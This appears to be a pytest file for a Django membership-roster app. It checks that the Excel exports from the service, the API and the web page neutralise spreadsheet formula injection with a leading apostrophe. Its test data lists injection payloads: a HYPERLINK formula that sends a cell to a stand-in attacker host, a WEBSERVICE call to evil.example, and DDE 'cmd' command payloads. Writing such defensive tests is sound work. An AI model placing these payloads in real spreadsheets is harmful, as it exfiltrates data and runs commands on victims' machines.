"""
Formula injection in roster exports (issue 6 f; quality-anchors D1 S7).

Text that a spreadsheet would evaluate — starting with = + - @ tab or
carriage return — must come out of every export (the service, the API and
the page) as a text cell with a leading apostrophe, whatever field holds it.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token

from orglife.orgs.models import Organization
from orglife.people.models import Person
from orglife.people.roster import FORMULA_PREFIXES
from orglife.people.services import person_create
from orglife.people.services_roster import roster_export

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://ev.il/?"&A1,"点")',  # within the 40-character columns
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://evil.example")',
]
# Text fields that reach the export; org name is the branch column.
PERSON_TEXT_FIELDS = ("full_name", "ethnicity", "education", "native_place", "work_unit")


def _people_with_formulas(org_tree):
    """One person per formula, the formula in every exported text field."""
    people = []
    for number, formula in enumerate(FORMULAS):
        person = person_create(
            actor=None, org=org_tree.branch_a1, status="applicant", full_name=f"人{number}", national_id=""
        )
        # Stored directly: the import and the services strip or refuse some of
        # these, but rows from elsewhere (old data, the admin) must be safe too.
        Person.objects.filter(pk=person.pk).update(**_fitted(formula))
        people.append(person)
    Organization.objects.filter(pk=org_tree.branch_a1.pk).update(name="=1+2", short_name="+3")
    return people


def _assert_neutralised(workbook_bytes: bytes, expected_rows: int) -> int:
    sheet = load_workbook(io.BytesIO(workbook_bytes)).active
    checked = 0
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == expected_rows
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.lstrip("'") != cell.value:
                checked += 1
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_PREFIXES), (cell.coordinate, cell.value)
    return checked


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
def test_service_export_prefixes_every_formula_with_an_apostrophe(formula, org_tree, personas, tmp_path):
    # given a person whose every text field holds the formula
    person = person_create(
        actor=None, org=org_tree.branch_a1, status="applicant", full_name="某人", national_id=""
    )
    Person.objects.filter(pk=person.pk).update(**_fitted(formula))
    path = tmp_path / "out.xlsx"
    # when the branch is exported
    roster_export(actor=personas.branch_secretary, org=org_tree.branch_a1, destination=path)
    # then each of those cells is the text "'" + formula
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    values = list(sheet[2])
    shown = [cell for cell in values if isinstance(cell.value, str) and cell.value.endswith(formula.lstrip())]
    assert len(shown) == len(PERSON_TEXT_FIELDS), header
    for cell in shown:
        # A carriage return may come back as a line feed (XML line-end handling); the apostrophe stays first.
        assert cell.value.replace("\r", "\n") == "'" + formula.replace("\r", "\n")
        assert cell.data_type == "s"


def _fitted(formula: str) -> dict[str, str]:
    """The payload in every text field, cut to the column's length (PostgreSQL enforces it)."""
    return {name: formula[: Person._meta.get_field(name).max_length] for name in PERSON_TEXT_FIELDS}


def test_api_export_neutralises_formulas_in_every_cell(client, org_tree, personas):
    # given people and a branch name that hold formulas
    _people_with_formulas(org_tree)
    token = Token.objects.create(user=personas.province_admin)
    # when the roster is downloaded through the API
    response = client.get(
        f"/api/people/export/?org={org_tree.branch_a1.code}", HTTP_AUTHORIZATION=f"Token {token.key}"
    )
    # then no cell is a formula or starts like one; every injected cell got the apostrophe
    assert response.status_code == 200
    checked = _assert_neutralised(b"".join(response.streaming_content), expected_rows=len(FORMULAS))
    assert checked == len(FORMULAS) * len(PERSON_TEXT_FIELDS) + len(FORMULAS)  # + the branch name


def test_export_page_neutralises_formulas_in_every_cell(client, org_tree, personas):
    # given the same data, downloaded from the page
    _people_with_formulas(org_tree)
    client.force_login(personas.branch_secretary)
    # when
    response = client.get(f"/people/export/?org={org_tree.branch_a1.code}")
    # then
    assert response.status_code == 200
    checked = _assert_neutralised(b"".join(response.streaming_content), expected_rows=len(FORMULAS))
    assert checked == len(FORMULAS) * (len(PERSON_TEXT_FIELDS) + 1)
